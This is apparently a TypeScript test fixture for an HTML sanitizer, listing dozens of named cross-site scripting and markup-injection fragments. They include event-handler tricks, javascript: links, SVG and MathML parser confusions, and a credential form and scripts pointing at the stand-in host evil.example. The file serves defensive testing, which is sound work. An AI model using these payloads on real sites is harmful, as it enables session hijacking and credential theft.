/**
 * Fragments that must come out harmless. A script that runs sets `hostile`; an address that may not be
 * followed or loaded is one of `evil.example`. Named by the trick.
 */
export const HOSTILE_FRAGMENTS: Record<string, string> = {
  script: '<script>hostile = 1</script>',
  'script from elsewhere': '<script src="https://evil.example/a.js"></script>',
  'script in mixed case': '<ScRiPt >hostile = 1</sCrIpT >',
  'script within a script': '<scr<script></script>ipt>hostile = 1</scr<script></script>ipt>',
  'script that is never closed': '<p>Sale</p><script>hostile = 1',
  'script in a template': '<template><script>hostile = 1</script></template>',
  'script in noscript': '<noscript><p title="</noscript><script>hostile = 1</script>"></noscript>',
  'handler of an image': '<img src=x onerror="hostile = 1">',
  'handler without quotes': '<img src=x onerror=hostile=1>',
  'handler after a slash': '<img/src=x/onerror=hostile=1>',
  'handler behind a line break': '<img src=x\nonerror\n=\n"hostile = 1">',
  'handler behind a form feed': '<img src=x\fonerror="hostile = 1">',
  'handler in mixed case': '<img src=x OnErRoR="hostile = 1">',
  'handler behind a bracket in a value': '<img title=">" src=x onerror="hostile = 1">',
  'handler of an image without an address': '<img src onerror="hostile = 1">',
  'handler of a set of images': '<img srcset="x 1x" sizes="1px" onerror="hostile = 1">',
  'handler of a table cell':
    '<table><tr><td onclick="hostile = 1" onmouseover="hostile = 1">9</td></tr></table>',
  'handler that the focus starts': '<a href="#" onfocus="hostile = 1" autofocus tabindex="1">here</a>',
  'handler of an animation': '<b onanimationstart="hostile = 1" class="fade">Sale</b>',
  'handler of body': '<body onload="hostile = 1"><p>Sale</p></body>',
  'handler of details': '<details open ontoggle="hostile = 1"><summary>More</summary>text</details>',
  'handler of a video':
    '<video autoplay onloadstart="hostile = 1"><source onerror="hostile = 1" src="x"></video>',
  'handler of a drawing': '<svg onload="hostile = 1"><circle r="9"/></svg>',
  'script in a drawing': '<svg><script>hostile = 1</script></svg>',
  'link in a drawing': '<svg><a xlink:href="javascript:hostile=1"><text y="9">click</text></a></svg>',
  'drawing used from elsewhere': '<svg><use href="https://evil.example/#a"/></svg>',
  'animated address': '<svg><a><animate attributeName="href" values="javascript:hostile=1"/></a></svg>',
  'HTML in a drawing': '<svg><foreignObject><img src=x onerror="hostile = 1"></foreignObject></svg>',
  'style in a drawing': '<svg><style><img src=x onerror="hostile = 1"></style></svg>',
  'style in mathematics':
    '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile=1&gt;">',
  'table in mathematics':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="hostile = 1">',
  'link in mathematics': '<math><mi href="javascript:hostile=1">x</mi></math>',
  'comment that ends early': '<!--><img src=x onerror="hostile = 1">-->',
  'comment with a bang': '<!--!--!><img src=x onerror="hostile = 1">',
  'processing instruction': '<?php <img src=x onerror="hostile = 1"> ?>',
  'character data': '<![CDATA[<img src=x onerror="hostile = 1">]]>',
  'title that ends early': '<title><p title="</title><img src=x onerror=hostile=1>"></title>',
  'text area that ends early': '<textarea><p title="</textarea><img src=x onerror=hostile=1>"></textarea>',
  'plain text': '<plaintext><img src=x onerror="hostile = 1">',
  'link that runs a script': '<a href="javascript:hostile=1">click</a>',
  'link in mixed case': '<a href="JaVaScRiPt:hostile=1">click</a>',
  'link with a tab in it': '<a href="java&Tab;script:hostile=1">click</a>',
  'link with a line break in it': '<a href="java&#10;script:hostile=1">click</a>',
  'link behind a control character': '<a href="&#1;javascript:hostile=1">click</a>',
  'link in entities': '<a href="&#x6A;avascript&colon;hostile=1">click</a>',
  'link to data': '<a href="data:text/html,<script>hostile=1</script>">click</a>',
  'link to another script language': '<a href="vbscript:hostile=1">click</a>',
  'link to another host': '<a href="https://evil.example/" target="_blank">click</a>',
  'link to another host without its scheme': '<a href="//evil.example/">click</a>',
  'link to another host by backslashes': '<a href="\\\\evil.example/">click</a>',
  'link to another host by dots': '<a href="/..//evil.example/">click</a>',
  'link with a user name': '<a href="https://shop@evil.example/">click</a>',
  'image map': '<map name="m"><area shape="default" href="javascript:hostile=1"></map>',
  'image over plain http': '<img src="http://evil.example/a.png" alt="">',
  'image of data': '<img src="data:image/svg+xml,<svg onload=hostile=1>" alt="">',
  'password form':
    '<form action="https://evil.example/"><input name="email"><input type="password" name="password"><button>Sign in</button></form>',
  'controls without a form':
    '<select><option>1</option></select><textarea>2</textarea><button type="submit">3</button>',
  'control of another form': '<input form="cb" formaction="https://evil.example/" type="image" src="/a.png">',
  frame: '<iframe src="https://evil.example/" srcdoc="<script>parent.hostile = 1</script>"></iframe>',
  'plug-in': '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  'whole page covered': '<div style="position:fixed;inset:0;background:#fff">Your session has ended</div>',
  'style behind a bracket in a value': '<p title="a > b" style="position:fixed;inset:0">covered</p>',
  'style without quotes': '<p/style=position:fixed;inset:0>covered</p>',
  'style sheet': '<style>body { display: none }</style><p>Sale</p>',
  'style sheet that is never closed': '<p>Sale</p><style>body { display: none }',
  'style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'old colours':
    '<font color="red" size="7">Sale</font><marquee>Sale</marquee><p align="center" bgcolor="red">Sale</p>',
  'base and refresh':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'names of the page':
    '<p id="cb-state" name="cb-state">{}</p><a id="parentNode" name="attributes">click</a>',
  'own class': '<div class="cb-button cb-dialog promo" data-tone="action">Checkout</div>',
  'own element': '<cb-cart-page></cb-cart-page><div data-cb-widget="mini-cart"></div>',
  'role and label': '<div role="alert" aria-label="Sign in" contenteditable tabindex="0">Sale</div>',
};

/** Markup that is text, and stays text: what it must read as. */
export const ENCODED_FRAGMENTS: Record<string, string> = {
  '&lt;img src=x onerror=hostile=1&gt;': '<img src=x onerror=hostile=1>',
  '<p>&lt;script&gt;hostile = 1&lt;/script&gt;</p>': '<script>hostile = 1</script>',
  '&amp;lt;img src=x onerror=hostile=1&amp;gt;': '&lt;img src=x onerror=hostile=1&gt;',
  '<b title="&lt;img src=x onerror=hostile=1&gt;">Beakers &#60;50 mL&#62;</b>': 'Beakers <50 mL>',
};
